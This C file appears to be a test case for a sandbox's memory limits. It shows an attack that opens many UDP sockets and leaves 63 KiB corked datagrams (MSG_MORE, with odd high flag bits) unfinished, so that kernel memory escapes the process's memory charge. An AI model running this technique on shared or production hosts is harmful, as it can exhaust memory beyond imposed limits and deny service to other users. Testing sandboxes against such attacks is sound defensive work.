// case: C10 C22
// attack: keeps memory in datagrams that it begins and never finishes, which the kernel charges to nobody
// expect: held or outcome memory
// outside: through
// limits: memory=32M
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
static char block[65000];
int main(void) {
    int begun = 0;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    for (int number = 0; number < 60; number += 1) {
        int sender = socket(AF_INET, SOCK_DGRAM, 0);
        struct iovec piece = {block, sizeof block};
        struct msghdr message = {
            .msg_name = &address, .msg_namelen = sizeof address, .msg_iov = &piece, .msg_iovlen = 1};
        struct mmsghdr messages = {message, 0};
        // The bits above those of an int are the kernel's to ignore.
        long flags = (number % 2 ? 1L << 32 : 0) | MSG_MORE;
        if (number % 3 == 0) begun += syscall(SYS_sendto, sender, block, sizeof block, flags, &address, sizeof address) > 0;
        if (number % 3 == 1) begun += syscall(SYS_sendmsg, sender, &message, flags) > 0;
        if (number % 3 == 2) begun += syscall(SYS_sendmmsg, sender, &messages, 1, flags) > 0;
    }
    // Each holds its socket's 63 KiB, whatever the limit; any number of processes can do the same.
    if (begun > 0) through("%d datagrams of 63 KiB are begun", begun);
    held("%s", strerrorname_np(errno));
}
